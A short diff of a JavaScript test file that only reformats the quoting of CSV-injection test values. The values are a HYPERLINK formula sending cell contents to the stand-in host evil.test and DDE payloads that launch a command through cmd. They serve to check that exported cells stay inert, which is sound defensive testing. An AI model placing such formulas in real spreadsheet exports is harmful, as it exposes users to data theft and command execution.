@@ -39,9 +39,9 @@ describe('CSV as RFC 4180 writes it and spreadsheets send it', () => {
 describe('CSV injection (OWASP): hostile cells are inert in a spreadsheet and survive the round trip', () => {
   const hostile = [
     '=HYPERLINK("http://evil.test/?x="&A1,"Click me")',
-    '+1+cmd|\' /C calc\'!A0',
+    "+1+cmd|' /C calc'!A0",
     '-2+3',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '\t=1+1',
     '\r=1+1',
     "'=already quoted",
